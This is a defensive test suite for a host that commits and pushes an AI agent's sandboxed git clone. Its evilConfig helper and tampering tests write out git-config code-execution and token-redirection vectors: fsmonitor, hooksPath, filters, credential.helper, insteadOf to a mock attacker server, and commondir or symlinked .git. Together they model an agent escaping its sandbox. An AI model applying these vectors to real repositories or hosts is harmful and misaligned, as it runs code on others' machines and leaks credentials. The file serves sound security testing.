import { access, chmod, cp, mkdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { git, tempDir } from '../../src/demo/git-fixtures.js';
import { type GitHttpServer, startGitHttpServer } from '../../src/demo/git-http-server.js';
import { createSilentLogger } from '../../src/lib/logger.js';
import { createWorkspaces, type Workspaces } from '../../src/workspace/create-workspaces.js';
import { configEnv } from '../../src/workspace/git.js';
import type { TaskClone, TaskWorkspace } from '../../src/workspace/types.js';
import { tokenCredentials } from '../../src/workspace/types.js';
import { createWorkspaceContext } from '../../src/workspace/workspace-context.js';
import { rejection } from '../fakes/git-remote.js';

/**
 * What an agent can do to the clone it is given (worktree and `.git`, writable in the sandbox) to make
 * the host's commit and push run its commands or send the branch, with the token, to its own server.
 */
const TOKEN = `ghs_${Math.random().toString(36).slice(2)}REALSECRET`;
const ATTACKER_TOKEN = 'attacker-token';
const LEGIT = 'export const fixed = true;\n';

let server: GitHttpServer;
let attacker: GitHttpServer;
/** every token presented to the attacker's server */
let seenByAttacker: string[] = [];
/** the attacker server's request count before the test */
let attackerBaseline = 0;
let remoteRoot: string;
let attackerRoot: string;
let root: string;
let trap: string;
let repo: string;
let counter = 0;

const exists = (path: string) =>
  access(path).then(
    () => true,
    () => false,
  );

function workspaces(): Workspaces {
  return createWorkspaces({
    root,
    remoteUrl: (r) => `${server.url}/${r}.git`,
    credentials: tokenCredentials(TOKEN),
    log: createSilentLogger(),
    pool: { size: 0 },
  });
}

/** A program that leaves a marker when anything runs it (and passes stdin through, as a filter). */
async function plantScript(): Promise<string> {
  const script = join(trap, 'payload.sh');
  await writeFile(script, `#!/bin/sh\ntouch '${join(trap, 'ran')}'\ncat\n`);
  await chmod(script, 0o755);
  const hooks = join(trap, 'hooks');
  await mkdir(hooks, { recursive: true });
  for (const hook of ['reference-transaction', 'pre-push', 'post-checkout', 'pre-commit']) {
    await cp(script, join(hooks, hook));
  }
  return script;
}

/** Config that runs the payload from every place git takes a command from, and sends pushes away. */
function evilConfig(script: string, head = ''): string {
  return `${head}[core]
\tfsmonitor = ${script}
\thooksPath = ${join(trap, 'hooks')}
\tsshCommand = ${script}
\tpager = ${script}
[filter "x"]
\tclean = ${script}
\tsmudge = ${script}
[diff "x"]
\ttextconv = ${script}
\tcommand = ${script}
[credential]
\thelper = !${script}
[url "${attacker.url}/"]
\tinsteadOf = ${server.url}/
\tpushInsteadOf = ${server.url}/
`;
}

const repoHeader = '[core]\n\trepositoryformatversion = 0\n\tbare = false\n';

/** The agent's honest work: a change, and a .gitattributes naming the filter and diff driver. */
async function legitChange(clone: TaskWorkspace): Promise<void> {
  await writeFile(join(clone.dir, 'src/fix.ts'), LEGIT);
  await writeFile(join(clone.dir, '.gitattributes'), '* filter=x diff=x\n');
}

/** A copy of the clone's repository under the agent's control, with the evil config. */
async function evilGitDir(clone: TaskWorkspace, script: string): Promise<string> {
  const evil = join(await tempDir('patchbay-evil-'), 'g');
  await cp(join(clone.dir, '.git'), evil, { recursive: true });
  await writeFile(join(evil, 'config'), evilConfig(script, repoHeader));
  return evil;
}

/** What git run naively in the clone (as the host once did) would take for the filter. */
const naiveFilter = (clone: TaskWorkspace) =>
  git(['config', 'filter.x.clean'], { cwd: clone.dir }).then(
    (out) => out.trim(),
    () => '',
  );

async function commitAndPush(clone: TaskClone) {
  const result = await clone.commit({ message: 'Fix', allowWorkflows: false });
  await clone.push();
  return result;
}

/** Nothing of the agent's ran on the host, and its server neither got the branch nor saw the token. */
async function expectNothingLeaked(): Promise<void> {
  expect(await exists(join(trap, 'ran'))).toBe(false);
  expect(attacker.requests - attackerBaseline).toBe(0);
  expect(seenByAttacker).not.toContain(TOKEN);
  expect(await attacker.branches(repo)).toEqual(['main']);
}

async function expectPushed(clone: TaskWorkspace): Promise<void> {
  expect(await server.readFile(repo, clone.branch, 'src/fix.ts')).toBe(LEGIT);
  expect(await server.readFile(repo, clone.branch, '.gitattributes')).toBe('* filter=x diff=x\n');
  expect(await server.log(repo, clone.branch)).toEqual(['Fix', 'Initial commit']);
}

beforeAll(async () => {
  remoteRoot = await tempDir('patchbay-tamper-remote-');
  attackerRoot = await tempDir('patchbay-tamper-attacker-');
  server = await startGitHttpServer({ root: remoteRoot, token: TOKEN });
  attacker = await startGitHttpServer({
    root: attackerRoot,
    acceptToken: (token) => {
      seenByAttacker.push(token);
      return token === ATTACKER_TOKEN;
    },
  });
});

afterAll(async () => {
  await Promise.all([server.close(), attacker.close()]);
  await rm(remoteRoot, { recursive: true, force: true });
  await rm(attackerRoot, { recursive: true, force: true });
});

beforeEach(async () => {
  root = await tempDir('patchbay-tamper-');
  trap = await tempDir('patchbay-trap-');
  seenByAttacker = [];
  attackerBaseline = attacker.requests;
  counter += 1;
  repo = `acme/web${counter}`;
  const files = { 'README.md': '# web\n', 'src/app.ts': 'export const a = 1;\n' };
  await server.createRepo(repo, files);
  await attacker.createRepo(repo, files);
});

describe('a clone the agent tampered with', () => {
  it('ignores a .git/commondir pointing at a repository with a filter and insteadOf', async () => {
    const ws = workspaces();
    const clone = await ws.createClone({ repo, taskId: 'c', branch: 'patchbay/c-commondir', base: 'main' });
    const script = await plantScript();
    await legitChange(clone);
    await writeFile(join(clone.dir, '.git', 'commondir'), `${await evilGitDir(clone, script)}\n`);
    expect(await naiveFilter(clone)).toBe(script);

    await commitAndPush(clone);

    await expectNothingLeaked();
    await expectPushed(clone);
    expect(await exists(join(clone.dir, '.git', 'commondir'))).toBe(false);
  });

  it.each([
    ['a gitdir: file', async (evil: string, dotGit: string) => writeFile(dotGit, `gitdir: ${evil}\n`)],
    ['a symlink', async (evil: string, dotGit: string) => symlink(evil, dotGit)],
  ])('refuses a .git replaced by %s, and pushes nothing anywhere', async (_name, plant) => {
    const ws = workspaces();
    const clone = await ws.createClone({ repo, taskId: 'g', branch: 'patchbay/g-gitfile', base: 'main' });
    const script = await plantScript();
    await legitChange(clone);
    const evil = await evilGitDir(clone, script);
    await rm(join(clone.dir, '.git'), { recursive: true, force: true });
    await plant(evil, join(clone.dir, '.git'));
    expect(await naiveFilter(clone)).toBe(script);

    const commitErr = await rejection(clone.commit({ message: 'Fix', allowWorkflows: false }));
    const pushErr = await rejection(clone.push());
    const diffErr = await rejection(clone.diff());

    for (const err of [commitErr, pushErr, diffErr]) {
      expect(err.permanent).toBe(true);
      expect(err.message).toMatch(/tampered/);
    }
    await expectNothingLeaked();
    expect(await server.branches(repo)).toEqual(['main']);
  });

  it('restores a .git/config rewritten with fsmonitor, hooks, a filter and insteadOf', async () => {
    const ws = workspaces();
    const clone = await ws.createClone({ repo, taskId: 'k', branch: 'patchbay/k-config', base: 'main' });
    const script = await plantScript();
    await legitChange(clone);
    const config = join(clone.dir, '.git', 'config');
    await writeFile(config, `${await readFile(config, 'utf8')}${evilConfig(script)}`);
    expect(await naiveFilter(clone)).toBe(script);

    await commitAndPush(clone);
    const summary = await clone.diff();

    await expectNothingLeaked();
    await expectPushed(clone);
    expect(summary.patch).toContain('+export const fixed = true;');
  });

  it('removes .git/info/attributes naming a filter, and runs no filter', async () => {
    const ws = workspaces();
    const clone = await ws.createClone({ repo, taskId: 'a', branch: 'patchbay/a-attributes', base: 'main' });
    const script = await plantScript();
    await legitChange(clone);
    await mkdir(join(clone.dir, '.git', 'info'), { recursive: true });
    await writeFile(join(clone.dir, '.git', 'info', 'attributes'), '* filter=x\n');
    const config = join(clone.dir, '.git', 'config');
    await writeFile(config, `${await readFile(config, 'utf8')}[filter "x"]\n\tclean = ${script}\n`);

    await commitAndPush(clone);

    await expectNothingLeaked();
    await expectPushed(clone);
    expect(await exists(join(clone.dir, '.git', 'info', 'attributes'))).toBe(false);
  });

  it('ignores config.worktree enabled by extensions.worktreeConfig, and a HEAD outside refs/', async () => {
    const ws = workspaces();
    const clone = await ws.createClone({ repo, taskId: 'w', branch: 'patchbay/w-worktree', base: 'main' });
    const script = await plantScript();
    await legitChange(clone);
    const dotGit = join(clone.dir, '.git');
    await git(['config', 'core.repositoryformatversion', '1'], { cwd: clone.dir });
    await git(['config', 'extensions.worktreeConfig', 'true'], { cwd: clone.dir });
    await writeFile(join(dotGit, 'config.worktree'), evilConfig(script));
    expect(await naiveFilter(clone)).toBe(script);
    await writeFile(join(dotGit, 'HEAD'), 'ref: ../../../../elsewhere\n');

    await commitAndPush(clone);

    await expectNothingLeaked();
    await expectPushed(clone);
    expect(await exists(join(dotGit, 'config.worktree'))).toBe(false);
    expect(await readFile(join(dotGit, 'HEAD'), 'utf8')).toBe(`ref: refs/heads/${clone.branch}\n`);
  });

  it('removes symlinks in .git without writing or deleting through them', async () => {
    const ws = workspaces();
    const clone = await ws.createClone({ repo, taskId: 's', branch: 'patchbay/s-links', base: 'main' });
    await legitChange(clone);
    const dotGit = join(clone.dir, '.git');
    const victim = join(trap, 'victim.txt');
    await writeFile(victim, 'keep\n');
    await mkdir(join(trap, 'info'));
    await writeFile(join(trap, 'info', 'attributes'), 'keep\n');
    await writeFile(join(trap, 'HEAD'), 'ref: refs/heads/main\n');
    await rm(join(dotGit, 'logs'), { recursive: true, force: true });
    await mkdir(join(dotGit, 'logs', 'refs', 'heads', 'patchbay'), { recursive: true });
    await symlink(victim, join(dotGit, 'logs', 'HEAD'));
    await symlink(victim, join(dotGit, 'logs', 'refs', 'heads', clone.branch));
    await rm(join(dotGit, 'info'), { recursive: true, force: true });
    await symlink(join(trap, 'info'), join(dotGit, 'info'));
    await rm(join(dotGit, 'HEAD'));
    await symlink(join(trap, 'HEAD'), join(dotGit, 'HEAD'));

    await commitAndPush(clone);

    await expectNothingLeaked();
    await expectPushed(clone);
    expect(await readFile(victim, 'utf8')).toBe('keep\n');
    expect(await readFile(join(trap, 'info', 'attributes'), 'utf8')).toBe('keep\n');
    expect(await readFile(join(trap, 'HEAD'), 'utf8')).toBe('ref: refs/heads/main\n');
  });

  it('refuses when config the restore did not foresee survives it', async () => {
    const ws = workspaces();
    const clone = await ws.createClone({ repo, taskId: 'i', branch: 'patchbay/i-include', base: 'main' });
    const script = await plantScript();
    await legitChange(clone);
    await writeFile(join(trap, 'included'), evilConfig(script));
    const snapshot = join(dirname(clone.dir), 'config');
    await writeFile(
      snapshot,
      `${await readFile(snapshot, 'utf8')}[include]\n\tpath = ${join(trap, 'included')}\n`,
    );

    const err = await rejection(clone.commit({ message: 'Fix', allowWorkflows: false }));

    expect(err.permanent).toBe(true);
    await expectNothingLeaked();
    expect(await server.branches(repo)).toEqual(['main']);
  });

  it('sends the token only to the remote URL, not to a server a URL rewrite points at', async () => {
    const ctx = createWorkspaceContext({
      root,
      remoteUrl: (r) => `${server.url}/${r}.git`,
      credentials: tokenCredentials(TOKEN),
      log: createSilentLogger(),
    });
    const rewrite: [string, string] = [`url.${attacker.url}/.insteadOf`, `${server.url}/`];
    const env = configEnv([...(await ctx.remoteConfig(repo)), rewrite]);

    const direct = await git(['ls-remote', `${server.url}/${repo}.git`], {
      env: configEnv(await ctx.remoteConfig(repo)),
    });
    const redirected = await git(['ls-remote', `${server.url}/${repo}.git`], { env }).catch((e: Error) => e);

    expect(direct).toContain('refs/heads/main');
    expect(redirected).toBeInstanceOf(Error);
    expect(attacker.requests - attackerBaseline).toBeGreaterThan(0);
    expect(seenByAttacker).toEqual([]);
  });
});
